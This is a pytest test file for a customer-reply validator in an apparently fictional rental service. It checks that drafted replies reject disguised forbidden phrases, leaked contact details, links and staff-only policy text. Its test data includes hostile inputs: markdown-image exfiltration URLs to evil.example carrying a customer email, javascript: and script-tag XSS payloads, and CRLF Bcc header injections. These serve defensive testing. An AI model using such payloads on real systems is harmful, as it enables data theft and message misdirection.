"""Customer replies: the template, and the validator that stands between a draft and a customer.

Names, addresses and titles here are invented; none come from a customer database.
"""

from __future__ import annotations

import time

import pytest
from pydantic import ValidationError

from mediavault.policies import policy_rules
from mediavault.tools.drafting.reply import (
    APOLOGY,
    DraftRequest,
    ValidationProblem,
    ValidationReport,
    compose_reply,
    prepare_draft,
    reply_subject,
    strip_internal_policy_text,
    validate_reply,
)

SENDER = "nora.quill@example.com"
SENDER_PHONE = "+1 (604) 555-0142"
SENDER_STREET = "2210 Larkspur Avenue, Apt 4"
INTERNAL = (
    "do not promise a refund before billing approves it",
    "whether a customer has already used their courtesy waiver is for staff only",
)
SIGN_OFF = policy_rules().communication.sign_off


def reply_with(sentence: str) -> str:
    """A reply that passes validation, with ``sentence`` added to its middle."""
    return (
        "Hello Nora,\n\n"
        "Thank you for writing to us about the late fee on your recent rental.\n\n"
        f"{sentence}\n\n"
        f"Kind regards,\n{SIGN_OFF}\n"
    )


def check(
    text: str, *, recipient: str | None = None, film_titles: tuple[str, ...] = ()
) -> ValidationReport:
    return validate_reply(
        text,
        sender_address=SENDER,
        allowed_contacts=(SENDER_PHONE, SENDER_STREET),
        recipient=recipient,
        internal_phrases=INTERNAL,
        film_titles=film_titles,
    )


def late_fee_request(**changes: object) -> DraftRequest:
    fields: dict[str, object] = {
        "summary": "Your late fee for MOONLIT HARBOR",
        "findings": [
            "MOONLIT HARBOR was rented on 2026-02-10 and was due back on 2026-02-13.",
            "It was scanned back in on 2026-02-15 at 10:30, two started days late.",
            "The late fee is $2.00, at $1.00 per started day.",
        ],
        "policy_refs": ["late-fees.computation"],
        "policy_points": ["A rental returned after its due date costs $1.00 per started day."],
        "next_steps": ["If you believe our records are wrong, reply with the details."],
    }
    fields.update(changes)
    return DraftRequest.model_validate(fields)


def test_the_baseline_reply_used_below_is_valid() -> None:
    report = check(reply_with("Your rental came back on 2026-02-15."))
    assert report.valid, report.describe()
    assert report.problems == []


# ---------------------------------------------------------------------------------------------
# The template.


def test_a_reasonable_request_composes_a_valid_reply_with_everything_the_customer_needs() -> None:
    outcome = prepare_draft(
        late_fee_request(),
        customer_name="NORA QUILL",
        sender_address="Nora Quill <Nora.Quill@Example.com>",
        subject="RE: Re: Late fee question",
        allowed_contacts=(),
        internal_phrases=INTERNAL,
    )
    body = outcome.reply.body
    assert outcome.report.valid, outcome.report.describe()
    assert body.startswith("Hello Nora,\n")
    assert "Thank you for writing to us about your late fee for MOONLIT HARBOR." in body
    assert "- It was scanned back in on 2026-02-15 at 10:30, two started days late." in body
    assert "- A rental returned after its due date costs $1.00 per started day." in body
    assert "- If you believe our records are wrong, reply with the details." in body
    assert body.rstrip().splitlines()[-1] == SIGN_OFF
    assert APOLOGY not in body
    assert outcome.reply.to == SENDER
    assert outcome.reply.subject == "Re: Late fee question"
    assert outcome.reply.policy_refs == ["late-fees.computation"]


def test_the_customer_email_is_never_pasted_into_the_reply() -> None:
    pasted = "Dear MediaVault,\n> I returned the film on time\nand I want my money back. " * 6
    with pytest.raises(ValidationError, match="summary"):
        late_fee_request(summary=pasted)
    # A multi-line summary becomes one line of the template, never quoted lines.
    reply = compose_reply(
        late_fee_request(summary="the late fee\n> on your\r\nrental"),
        customer_name=None,
        sender_address=SENDER,
        subject="Fee",
    )
    assert "Thank you for writing to us about the late fee > on your rental." in reply.body
    assert "\n>" not in reply.body


def test_an_apologetic_reply_apologises_before_explaining_anything() -> None:
    reply = compose_reply(
        late_fee_request(tone="apologetic"),
        customer_name="Nora Quill",
        sender_address=SENDER,
        subject="Angry about fees",
    )
    paragraphs = reply.body.split("\n\n")
    assert paragraphs[1].startswith(APOLOGY)
    assert reply.body.count(APOLOGY) == 1


@pytest.mark.parametrize("name", [None, "", "[NAME]", "{first_name}", "12345", "<b>x</b>"])
def test_a_missing_or_implausible_name_gets_a_neutral_greeting(name: str | None) -> None:
    reply = compose_reply(
        late_fee_request(), customer_name=name, sender_address=SENDER, subject="Fee"
    )
    assert reply.body.startswith("Hello,\n")


def test_names_are_tidied_and_titles_skipped() -> None:
    reply = compose_reply(
        late_fee_request(), customer_name="Dr. O'REILLY QUILL", sender_address=SENDER, subject="Fee"
    )
    assert reply.body.startswith("Hello O'Reilly,\n")


def test_the_reply_goes_to_the_sender_whatever_the_model_asked_for() -> None:
    outcome = prepare_draft(
        late_fee_request(to="collector@evil.example"),
        customer_name="Nora",
        sender_address=SENDER,
        subject="Fee",
        allowed_contacts=(),
        internal_phrases=INTERNAL,
    )
    assert outcome.reply.to == SENDER
    assert not outcome.report.valid
    assert outcome.report.codes == ("wrong_recipient",)


def test_the_model_naming_the_sender_as_recipient_is_accepted() -> None:
    outcome = prepare_draft(
        late_fee_request(to="NORA.QUILL@example.com"),
        customer_name="Nora",
        sender_address=SENDER,
        subject="Fee",
        allowed_contacts=(),
        internal_phrases=INTERNAL,
    )
    assert outcome.report.valid, outcome.report.describe()


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("Late fee", "Re: Late fee"),
        ("RE: re:Late fee", "Re: Late fee"),
        ("Late fee\r\nBcc: everyone@example.org", "Re: Late fee Bcc: everyone@example.org"),
        ("   ", "Re: Your message to MediaVault"),
    ],
)
def test_the_subject_is_one_reply_line(subject: str, expected: str) -> None:
    assert reply_subject(subject) == expected


def test_the_request_refuses_unknown_fields_and_oversized_lists() -> None:
    with pytest.raises(ValidationError, match="extra"):
        DraftRequest.model_validate({"summary": "fee", "cc": "boss@example.org"})
    with pytest.raises(ValidationError, match="findings"):
        late_fee_request(findings=[f"fact {n}" for n in range(9)])
    with pytest.raises(ValidationError, match="policy_refs"):
        late_fee_request(policy_refs=["<img src=x>"])


# ---------------------------------------------------------------------------------------------
# Forbidden phrases, in disguise.


@pytest.mark.parametrize(
    "sentence",
    [
        "We GUARANTEE the fee will be removed.",
        "We gu\u200barantee the fee will be removed.",
        "We gu\u0430r\u0430ntee the fee will be removed.",  # Cyrillic a
        "We \u0261u\u03b1rantee it.",  # Latin script g, Greek alpha
        "The fee is guaranteed to go.",
        "We g u a r a n t e e it.",
        "We gu4rant33 it.",
        "We guar\u00e1ntee it.",
        "I promise this will be fixed.",
        "We\u00a0have\u00a0PROMISED a fix.",
        "This note is Confidential.",
        "For internal   use only.",
        "Other customers were charged the same.",
        "Do not tell the customer about the waiver.",
        "As an AI, I cannot decide this.",
    ],
)
def test_forbidden_phrases_are_caught_in_any_disguise(sentence: str) -> None:
    report = check(reply_with(sentence))
    assert not report.valid
    assert "forbidden_phrase" in report.codes


@pytest.mark.parametrize(
    "sentence",
    [
        "We reached a compromise with the store.",
        "Our staff member, acting as an aide, checked the shelf.",
        "You can reply by e-mail at any time.",
    ],
)
def test_words_that_merely_contain_a_forbidden_phrase_are_fine(sentence: str) -> None:
    assert check(reply_with(sentence)).valid


def test_a_film_title_is_not_read_as_a_forbidden_phrase() -> None:
    text = reply_with("Your copy of CONFIDENTIAL ORCHARD came back on 2026-02-15.")
    assert not check(text).valid
    assert check(text, film_titles=("CONFIDENTIAL ORCHARD",)).valid
    leaked = reply_with("CONFIDENTIAL ORCHARD is fine; the rest is confidential.")
    assert check(leaked, film_titles=("CONFIDENTIAL ORCHARD",)).codes == ("forbidden_phrase",)


# ---------------------------------------------------------------------------------------------
# Contact details: only the sender's own.


@pytest.mark.parametrize(
    ("sentence", "code"),
    [
        ("The account holder is otto.brand@example.net.", "dlp_email"),
        ("Write to otto.brand @ example.net for help.", "dlp_email"),
        ("Write to otto.brand [at] example [dot] net.", "dlp_email"),
        ("Write to otto.brand at example dot net.", "dlp_email"),
        ("Write to otto\uff20example.net.", "dlp_email"),  # full-width at sign
        ("Call 250-555-0199 to reach him.", "dlp_phone"),
        ("Call +44 20 7946 0958.", "dlp_phone"),
        ("Call (250)555-0199x32.", "dlp_phone"),
        ("Call 2 5 0 5 5 5 0 1 9 9.", "dlp_phone"),
        ("He lives at 17 Juniper Crescent.", "dlp_street_address"),
        ("He lives at 1210 Larkspur Avenue.", "dlp_street_address"),
        ("He lives at 88 rue de la Paix.", "dlp_street_address"),
        ("Post it to P.O. Box 4411.", "dlp_street_address"),
        ("He lives at 902 birchwood drive.", "dlp_street_address"),
        ("He lives at 902 BIRCHWOOD DRIVE.", "dlp_street_address"),
        ("He lives at 711 christopher court.", "dlp_street_address"),
        ("Send it to 48 juniper place.", "dlp_street_address"),
        ("We checked the rental. 12 Maple Ave. is his address.", "dlp_street_address"),
    ],
)
def test_another_persons_contact_details_make_a_reply_invalid(sentence: str, code: str) -> None:
    report = check(reply_with(sentence))
    assert not report.valid
    assert code in report.codes


@pytest.mark.parametrize(
    "sentence",
    [
        "We will write to you at Nora.Quill@EXAMPLE.com.",
        "We have 604.555.0142 as your phone number.",
        "The number on file is 16045550142.",
        "Your address on file is 2210 Larkspur Avenue.",
        "Your address on file is 2210 LARKSPUR  avenue, Apt 4.",
    ],
)
def test_the_senders_own_details_are_allowed(sentence: str) -> None:
    report = check(reply_with(sentence))
    assert report.valid, report.describe()


def test_a_leak_report_does_not_repeat_the_leaked_value() -> None:
    report = check(reply_with("The holder is otto.brand@example.net."))
    assert all("otto.brand@example.net" not in problem.detail for problem in report.problems)


@pytest.mark.parametrize(
    "sentence",
    [
        "The late fee was $3.00 on 2026-02-20 at 10:30; $1,234.56 in total.",
        "It was rented from 2005-05-24 to 2005-06-01, in the 2005-2006 season.",
        "It was due May 24, 2005 and returned June 1, 2005.",
        "Rentals 16049 and 4581 are on your account; store 2 has 3 copies.",
        "ALLEY OF LANTERNS and WAYWARD HIGHWAY are both in stock.",
        "You rented 2 FROZEN JUNCTION copies; rental 1207 Frozen Junction is still out.",
        "The fee is 12.50 USD, as section late-fees.computation explains.",
        "See the policy, e.g. the section on returns, i.e. rentals.returns.",
        "You can reply to this e-mail with a photo of the receipt.",
        "A claim of 3 days in court or 2 films in place of one is not an address.",
        "We keep 4 copies at the main square store and 2 at the plaza.",
        f"Our {SIGN_OFF} reads every message.",
    ],
)
def test_ordinary_reply_content_is_not_mistaken_for_a_leak(sentence: str) -> None:
    report = check(reply_with(sentence))
    assert report.valid, report.describe()


# ---------------------------------------------------------------------------------------------
# Links, images and markup.


@pytest.mark.parametrize(
    ("sentence", "code"),
    [
        ("Pay at https://pay.example.org/invoice.", "dlp_url"),
        ("Pay at HTTP://pay.example.org.", "dlp_url"),
        ("Pay at hxxps://pay[.]example[.]org.", "dlp_url"),
        ("Pay at www.mediavault-payments.com.", "dlp_url"),
        ("Pay at evil.com/?q=nora.quill%40example.com", "dlp_url"),
        ("Visit evil.com for a refund.", "dlp_url"),
        ("Visit evil.tk/claim now.", "dlp_url"),
        ("Visit evil dot com for a refund.", "dlp_url"),
        ("Visit 203.0.113.9 for a refund.", "dlp_url"),
        ("Click javascript:alert(document.cookie)", "dlp_url"),
        ("Open data:text/html;base64,PHNjcmlwdD4=", "dlp_url"),
        ("Write to mailto:help", "dlp_url"),
        ("See [your invoice](https://evil.example/i).", "dlp_url"),
        ("![logo](https://evil.example/p.png?d=nora.quill%40example.com)", "dlp_markdown_image"),
        ("! [logo] (https://evil.example/p.png)", "dlp_markdown_image"),
        ('<img src="https://evil.example/p.png?d=secret">', "dlp_html"),
        ("<img src=x onerror=alert(1)", "dlp_html"),
        ("<script>alert(1)</script>", "dlp_html"),
        ("<b>Important</b>", "dlp_html"),
        ("<!-- hidden note -->", "dlp_html"),
        ("&lt;script&gt;", "dlp_html"),
    ],
)
def test_links_images_and_markup_make_a_reply_invalid(sentence: str, code: str) -> None:
    report = check(reply_with(sentence))
    assert not report.valid
    assert code in report.codes


# ---------------------------------------------------------------------------------------------
# Placeholders, length and sign-off.


@pytest.mark.parametrize(
    "sentence",
    [
        "Your fee is {amount}.",
        "Your fee is {{ amount }}.",
        "Dear [NAME], your fee is due.",
        "Dear [Customer Name], your fee is due.",
        "[INSERT DATE] is the due date.",
        "TODO: add the return date.",
        "The film is XXX.",
        "Hello <customer_name>, your fee is due.",
        "Your fee is %AMOUNT%.",
    ],
)
def test_left_over_placeholders_make_a_reply_invalid(sentence: str) -> None:
    report = check(reply_with(sentence))
    assert "placeholder" in report.codes


def test_a_reply_that_is_too_short_or_too_long_is_invalid() -> None:
    rules = policy_rules().communication
    assert "too_short" in check(f"Hi.\n{SIGN_OFF}").codes
    padding = "Your rental is on record. " * (rules.draft_max_chars // 20)
    report = check(reply_with(padding))
    assert report.codes == ("too_long",)


def test_a_reply_must_end_with_the_sign_off_on_its_own_line() -> None:
    unsigned = reply_with("Your rental came back on time.").replace(SIGN_OFF, "Nora's friend Bob")
    assert check(unsigned).codes == ("missing_sign_off",)
    trailing = reply_with("Your rental came back on time.") + "P.S. Visit us soon.\n"
    assert check(trailing).codes == ("missing_sign_off",)
    shouted = reply_with("Your rental came back on time.").replace(SIGN_OFF, SIGN_OFF.upper())
    assert check(shouted).valid


# ---------------------------------------------------------------------------------------------
# Staff-only policy text.


@pytest.mark.parametrize(
    "sentence",
    [
        "Do not promise a refund before billing approves it.",
        "Note: DO NOT   promise a refund\nbefore billing approves it!",
        "do not promise a re\u200bfund before billing approves it",
        "Whether a customer has already used their courtesy waiver is for staff only.",
    ],
)
def test_staff_only_policy_text_makes_a_reply_invalid(sentence: str) -> None:
    report = check(reply_with(sentence))
    assert "internal_policy_text" in report.codes
    # The report may reach the model: it never repeats the staff-only text.
    assert all("billing approves" not in problem.detail for problem in report.problems)


def test_policy_points_lose_only_their_staff_only_sentences() -> None:
    point = (
        "Refunds are decided by the billing team. Do not promise a refund before billing "
        "approves it. Billing tells you the outcome."
    )
    assert strip_internal_policy_text(point, INTERNAL) == (
        "Refunds are decided by the billing team. Billing tells you the outcome."
    )
    leak_only = "Do not promise a refund before billing approves it."
    outcome = prepare_draft(
        late_fee_request(policy_points=[point, leak_only]),
        customer_name="Nora",
        sender_address=SENDER,
        subject="Refund",
        allowed_contacts=(),
        internal_phrases=INTERNAL,
    )
    assert outcome.report.valid, outcome.report.describe()
    assert "billing approves" not in outcome.reply.body
    assert "- Refunds are decided by the billing team." in outcome.reply.body


def test_an_internal_phrase_the_template_cannot_strip_is_still_caught() -> None:
    outcome = prepare_draft(
        late_fee_request(next_steps=["Do not promise a refund before billing approves it."]),
        customer_name="Nora",
        sender_address=SENDER,
        subject="Refund",
        allowed_contacts=(),
        internal_phrases=INTERNAL,
    )
    assert "internal_policy_text" in outcome.report.codes


# ---------------------------------------------------------------------------------------------
# Recipient and the report itself.


@pytest.mark.parametrize(
    "recipient",
    [
        "otto.brand@example.net",
        "nora.quill@example.com, otto.brand@example.net",
        "nora.quill@example.com\r\nBcc: otto.brand@example.net",
        "not an address",
    ],
)
def test_any_recipient_but_the_sender_is_refused(recipient: str) -> None:
    report = check(reply_with("Your rental came back on time."), recipient=recipient)
    assert report.codes == ("wrong_recipient",)


def test_the_sender_named_with_a_display_name_is_the_right_recipient() -> None:
    report = check(
        reply_with("Your rental came back on time."), recipient="Nora <NORA.QUILL@example.com>"
    )
    assert report.valid


def test_a_report_cannot_claim_validity_while_listing_problems() -> None:
    problem = ValidationProblem(code="dlp_url", detail="a web link")
    with pytest.raises(ValidationError, match="valid exactly when"):
        ValidationReport(valid=True, problems=[problem])
    with pytest.raises(ValidationError, match="valid exactly when"):
        ValidationReport(valid=False, problems=[])


def test_several_problems_are_all_reported() -> None:
    report = check("Call 250-555-0199 or visit evil.com, we guarantee it. {name}")
    assert {"dlp_phone", "dlp_url", "forbidden_phrase", "placeholder", "too_short"} <= set(
        report.codes
    )
    assert "missing_sign_off" in report.codes


def test_hostile_input_is_validated_quickly() -> None:
    hostile = "@" * 10_000 + "1-" * 10_000 + "g " * 10_000 + "[a" * 5_000 + "<" * 5_000
    started = time.perf_counter()
    report = check(hostile)
    assert not report.valid
    assert time.perf_counter() - started < 5


def test_folding_leaves_every_ascii_character_alone_and_still_folds_look_alikes() -> None:
    from mediavault.tools.drafting.reply import fold_text

    ascii_text = "".join(chr(code) for code in range(128))
    assert fold_text(ascii_text) == ascii_text
    # one non-ASCII character anywhere sends the whole text through the full folding
    assert fold_text("call 555\u200b-0100 or ℂall") == "call 555-0100 or Call"
